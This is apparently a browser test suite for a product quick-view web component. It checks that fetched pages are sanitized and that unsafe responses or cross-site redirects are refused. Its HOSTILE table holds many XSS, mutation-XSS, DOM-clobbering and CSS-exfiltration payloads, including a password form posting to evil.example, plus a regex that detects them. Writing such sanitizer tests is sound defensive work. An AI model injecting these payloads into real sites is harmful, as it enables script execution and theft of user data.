import { expect } from '@open-wc/testing';
import type { ElementOf } from '../../shared/declaration/derived-types.js';
import { nextEvent, place, until } from '../../shared/testing/fixture.js';
import { imagesHaveFailed, javascriptUrlsHaveRun } from '../../shared/testing/hostile.js';
import { http, HttpResponse, pretendNetwork } from '../../shared/testing/network.js';
import { pretend } from '../../shared/testing/storage.js';
import type { productQuickView } from './declaration.js';
import '../../elements/sq-product-quick-view/index.js';

type QuickView = ElementOf<typeof productQuickView>;

const LINK = '<sq-product-quick-view selector="main"><a href="/asked/page">Bowl</a></sq-product-quick-view>';
const UPLOAD = '<main><h1>Bowl</h1><img src="x" onerror="window.hurt = 1"></main>';
const DATA = '{"title": "Bowl </b>"}';

/** What would run, load, navigate, or take a name: each in a product that is shown otherwise. */
const HOSTILE: Readonly<Record<string, string>> = {
  handlers:
    '<img src=x onerror="window.hurt=1"><p onclick="hurt=1" OnFocus="hurt=1" onanimationstart="hurt=1" tabindex=0>',
  'a handler of its root': '<sq-product onclick="hurt=1" item-id="a">',
  'links to scripts':
    '<a href="javascript:window.hurt=1">a</a><a href=" jAva\tScr\nipt:window.hurt=1">a</a><a href="&#1;javascript:hurt=1">a</a>',
  'links to documents':
    '<a href="data:text/html,<script>opener.hurt=1</script>">a</a><a ping="https://evil.example/" href="/a">a</a>',
  frames:
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe><iframe src="javascript:parent.hurt=1"></iframe><object data="x"></object><embed src="x">',
  'addresses that a picture, a film or a quotation can have':
    '<img src="x" srcset="/a.png 1x, javascript:hurt=1 2x"><img src="x" srcset="/a.png,javascript:hurt=1 2x" imagesrcset="javascript:hurt=1" data-src="javascript:hurt=1"><picture><source srcset="javascript:hurt=1 2x"><img src="x" longdesc="javascript:hurt=1"></picture><video poster="javascript:hurt=1"><track src="javascript:hurt=1"></video><q cite="javascript:hurt=1">a</q><table background="javascript:hurt=1"><tr><td background="javascript:hurt=1"></table><a ping="javascript:hurt=1" xlink:href="javascript:hurt=1">a</a><svg><use xlink:href="javascript:hurt=1"/></svg><input type="image" src="javascript:hurt=1" formaction="javascript:hurt=1"><sq-video poster="javascript:hurt=1" thumbnail-url="javascript:hurt=1"></sq-video><sq-map style-url="javascript:hurt=1"></sq-map>',
  'links into frames and windows of the page':
    '<a href="/a" target="checkout">a</a><area target="_top"><form action="/a" target="checkout"></form>',
  'a base': '<base href="https://evil.example/"><a href="relative">a</a>',
  'a refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/">',
  drawings:
    '<svg onload="window.hurt=1"><animate href="#l" attributeName="href" values="javascript:hurt=1"/><set attributeName="onclick" to="hurt=1"/><a id="l" href="javascript:hurt=1"><text>a</text></a><use href="data:image/svg+xml,<svg/>"/><use href="https://evil.example/a.svg#a"/><path href="https://evil.example/"/><image href="x"/><script>window.hurt=1</script><foreignObject><img src=x onerror="window.hurt=1"></foreignObject><rect fill="url(https://evil.example/)"/></svg>',
  'markup that is another when it is read again':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hurt=1&gt;"></table></math><noscript><p title="</noscript><img src=x onerror=window.hurt=1>"></noscript><svg><title><b title="</title><img src=x onerror=window.hurt=1>"></b></title><style><a id="</style><img src=x onerror=window.hurt=1>"></style></svg><template><img src=x onerror="window.hurt=1"></template><select><option><style></option></select><img src=x onerror=window.hurt=1></style></select>',
  'forms to elsewhere':
    '<form action="https://evil.example/"><input name="password"><button formaction="javascript:window.hurt=1">a</button><button formaction="https://evil.example/b">b</button><input type="image" formaction="//evil.example/c"></form>',
  'a form of the kit':
    '<sq-form action="https://evil.example/" success-redirect="https://evil.example/" post-submit-html="<script>hurt=1</script>" data-block-json=\'{"postSubmitHtml":"x"}\'><form action="//evil.example/"></form></sq-form>',
  'elements of others':
    '<p is="evil-part"><x-loader src="https://evil.example/" data-url="x"></x-loader></p><button is="evil-part">a</button>',
  'hooks of others':
    '<p data-hx-get="/x" hx-on:click="hurt=1" x-data="hurt=1" data-bind="x" v-html="x" _="on click">a</p><sq-gallery hx-get="/x" x-init="hurt=1" label="A"></sq-gallery>',
  'blocks that fetch pages':
    '<sq-product-quick-view selector="a"><a href="/x">x</a></sq-product-quick-view><sq-cookie-banner text="Win!"></sq-cookie-banner>',
  'scripts of others by blocks':
    '<sq-comment-count shortname="a" src="https://evil.example/x.js"></sq-comment-count><sq-reservation src="https://evil.example/x.js"></sq-reservation><sq-embed src="javascript:hurt=1" sandbox="allow-scripts" allow="camera"></sq-embed><sq-product src="https://evil.example/p.json"></sq-product>',
  'hooks of the kit':
    '<p data-sq-consent="media" data-src="javascript:1" data-html="<script>1</script>" data-sq-base="https://evil.example/" data-sq-sign-out data-sq-action="open-consent">a</p>',
  scripts:
    '<script>window.hurt=1</script><script type="module">window.hurt=1</script><script type="text/plain" data-sq-consent>window.hurt=1</script><script type="text/javascript" src="data:,window.hurt=1"></script><script type="application/json">window.hurt=1</script>',
  styles:
    '<style>*{display:none}</style><p style="position:fixed;inset:0;background:url(https://evil.example/);--a:url(https://evil.example/);--b:u\\72l(https://evil.example/);--c:image-set(&quot;https://evil.example/&quot; 1x);--d:image(&quot;https://evil.example/&quot;);--e:src(&quot;https://evil.example/&quot;)">a</p>',
  names:
    '<a id="location"></a><img name="cookie" src="x"><form id="sq-context" name="forms"></form><a id="Static"></a><a id="Static" name="SQUARESPACE_CONTEXT"></a>',
  'controls of forms of the page':
    '<input form="checkout" name="price" value="0"><button form="checkout" formaction="/x">a</button>',
};
const DANGER =
  /\son\w+=|javascript:|evil\.example|data:text|srcdoc|\sis=|\sping=|<(iframe|object|embed|base|meta|link|style|template|noscript|math|foreignobject|animate|set|image|x-loader|sq-product-quick-view|sq-cookie-banner)\b|\s(data-)?(hx|x|v|ng)-|data-bind|\s_=|post-submit|data-block-json|data-html|data-src|data-sq-(consent|base|sign-out|action)|position|sandbox|allow=|target="(checkout|_top)|<script(?! type="application\/json")|\sid="(location|sq-context|Static)"|\sform=/i;

describe('sq-product-quick-view shows of a page', () => {
  const network = pretendNetwork();
  const page = window as { hurt?: unknown };
  let followed: string[] = [];
  const stay = (event: MouseEvent) => {
    const link = (event.target as Element).closest('a');
    if (!link?.closest('sq-product-quick-view')) return;
    if (!event.defaultPrevented) followed.push(link.href);
    event.preventDefault();
  };
  beforeEach(() => {
    followed = [];
    delete page.hurt;
    addEventListener('click', stay);
  });
  afterEach(async () => {
    removeEventListener('click', stay);
    const element = document.querySelector<QuickView>('sq-product-quick-view:has(> [slot=product])');
    if (element) {
      const closed = nextEvent(element, 'sq-quick-view-close');
      void element.close();
      await closed;
      await until(() => !(history.state as { sqQuickView?: string } | null)?.sqQuickView);
    }
  });

  const answer = (html: string, headers: Record<string, string> = { 'content-type': 'text/html; charset=utf-8' }) =>
    void network.use(http.get('/asked/page', () => new HttpResponse(html, { headers })));
  const press = (element: Element) => element.querySelector<HTMLElement>(':scope > a')!.click();
  async function shown(html: string): Promise<Element> {
    answer(`<!doctype html><title>Bowl</title><main>${html}</main>`);
    const element = await place<QuickView>(LINK);
    const opened = nextEvent(element, 'sq-quick-view-open');
    press(element);
    await opened;
    return element.querySelector('[slot=product]')!;
  }

  for (const [name, html] of Object.entries(HOSTILE))
    it(`no ${name}`, async () => {
      const content = await shown(`<h1>Bowl</h1><p>text</p>${html}`);
      for (const element of content.querySelectorAll('*'))
        if (element.localName !== 'script') element.dispatchEvent(new Event('focus'));
      await imagesHaveFailed();
      await javascriptUrlsHaveRun();
      expect(content.innerHTML).not.to.match(DANGER);
      // What a program would read that stores the page as text.
      const again = new DOMParser().parseFromString(content.innerHTML, 'text/html').body;
      expect(again.innerHTML).not.to.match(DANGER);
      expect(content.textContent).to.include('Bowl').and.include('text');
      expect('hurt' in window).to.equal(false);
    });

  it('all that a product consists of', async () => {
    const content = await shown(
      `<sq-product item-id="bowl" currency="EUR" class="product" low-stock="2" style="--accent: #c33; color: red">
        <sq-gallery design="slideshow" thumbnails label="Bowl"><img src="/asked/a.svg" srcset="/asked/a.svg 1x" alt="A" data-variant="B" width="3" height="2" loading="lazy"></sq-gallery>
        <form method="post" action="/cart/entries"><input type="hidden" name="itemId" value="bowl">
        <fieldset><legend>Glaze</legend><label for="g"><input type="radio" id="g" name="Glaze" value="Celadon" required> Celadon</label></fieldset>
        <select name="Size" aria-label="Size"><option value="s" selected>S</option></select>
        <input type="number" name="quantity" value="1" min="1" max="9" aria-describedby="hint">
        <span id="hint">Nine at most</span><textarea name="note" maxlength="40"></textarea>
        <button class="button" name="now" value="1" formaction="/buy">Buy</button></form>
        <p data-sq-field="price"></p><p data-sq-if="on-sale" hidden>Sale</p>
        <svg viewBox="0 0 1 1" aria-hidden="true"><g id="cup"><path d="M0 0" fill="url(#cup)"></path></g><use href="#cup"></use></svg>
        <sq-accordion><details open><summary>Care</summary><p>By hand</p></details></sq-accordion>
        <script type="application/json" data-sq-product>${DATA}</script></sq-product>`,
    );
    const at = (path: string) => new URL(path, location.href).href;
    const has = (selector: string) => void expect(content.querySelector(selector), selector).not.to.equal(null);
    const product = content.querySelector<HTMLElement>(
      'sq-product[item-id=bowl][currency=EUR][low-stock="2"].product',
    )!;
    expect([product.style.color, product.style.getPropertyValue('--accent').trim()]).to.deep.equal(['red', '#c33']);
    has('sq-gallery[design=slideshow][thumbnails] img[data-variant=B][width="3"][srcset]');
    has(`form[method=post][action="${at('/cart/entries')}"] input[type=hidden][name=itemId][value=bowl]`);
    has('fieldset input[type=radio][name=Glaze][value=Celadon][required]');
    has('select[name=Size][aria-label=Size] option[value=s][selected]');
    has('textarea[name=note][maxlength="40"]');
    has(`button[name=now][value="1"][formaction="${at('/buy')}"]`);
    has('[data-sq-field=price] ~ [data-sq-if=on-sale][hidden]');
    has('svg[viewBox] g#cup path[d][fill="url(#cup)"]');
    has('sq-accordion details[open] summary');
    const [label, radio] = ['label', 'input[type=radio]'].map((selector) => content.querySelector(selector)!);
    expect([radio!.id === 'g', (label as HTMLLabelElement).control]).to.deep.equal([false, radio]);
    const hint = content.querySelector('[name=quantity]')!.getAttribute('aria-describedby')!;
    expect(document.getElementById(hint)!.textContent).to.equal('Nine at most');
    const data = content.querySelector<HTMLScriptElement>('script[data-sq-product]')!;
    expect([JSON.parse(data.text), data.text.includes('<')]).to.deep.equal([JSON.parse(DATA), false]);
  });

  const UPLOADS: Readonly<Record<string, Record<string, string>>> = {
    'plain text': { 'content-type': 'text/plain', 'x-content-type-options': 'nosniff' },
    'no type': { 'content-type': '' },
    'two types': { 'content-type': 'text/html, text/plain' },
    XHTML: { 'content-type': 'application/xhtml+xml' },
    'an attachment': { 'content-type': 'text/html', 'content-disposition': 'Attachment; filename="a.html"' },
    'an unknown disposition': { 'content-type': 'text/html', 'content-disposition': 'x-file; filename=inline' },
    'a sandbox': { 'content-type': 'text/html', 'content-security-policy': "default-src 'none'; sandbox" },
    'a sandbox that may run scripts': {
      'content-type': 'text/html',
      'content-security-policy': 'sandbox allow-scripts allow-forms',
    },
    'a sandbox by the second of two policies': {
      'content-type': 'text/html',
      'content-security-policy': "default-src 'none', sandbox",
    },
  };
  for (const [name, headers] of Object.entries(UPLOADS))
    it(`nothing of an answer that is ${name}: the link is followed`, async () => {
      answer(UPLOAD, headers);
      const element = await place<QuickView>(LINK);
      press(element);
      await until(() => followed.length === 1);
      expect([element.querySelector('[slot=product]'), 'hurt' in window]).to.deep.equal([null, false]);
    });

  it('nothing of another site to which a redirect has led', async () => {
    const restore = pretend(window, 'fetch', async () => {
      const response = new Response(UPLOAD, { headers: { 'content-type': 'text/html' } });
      Object.defineProperty(response, 'url', { value: 'https://evil.example/page' });
      return response;
    });
    try {
      const element = await place<QuickView>(LINK);
      press(element);
      await until(() => followed.length === 1);
      expect([element.querySelector('[slot=product]'), 'hurt' in window]).to.deep.equal([null, false]);
    } finally {
      restore();
    }
  });

  it('what the server shows inline', async () => {
    answer('<main><h1>Bowl</h1></main>', {
      'content-type': 'TEXT/HTML;charset=utf-8',
      'content-disposition': 'inline',
    });
    const element = await place<QuickView>(LINK);
    const opened = nextEvent(element, 'sq-quick-view-open');
    press(element);
    await opened;
    expect(element.querySelector('[slot=product]')!.textContent).to.equal('Bowl');
  });
});
